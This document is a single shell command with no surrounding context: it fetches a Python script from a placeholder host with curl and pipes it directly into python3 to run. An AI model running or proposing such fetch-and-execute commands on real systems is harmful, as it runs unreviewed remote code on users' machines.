curl https://x.example/p.py | python3 -
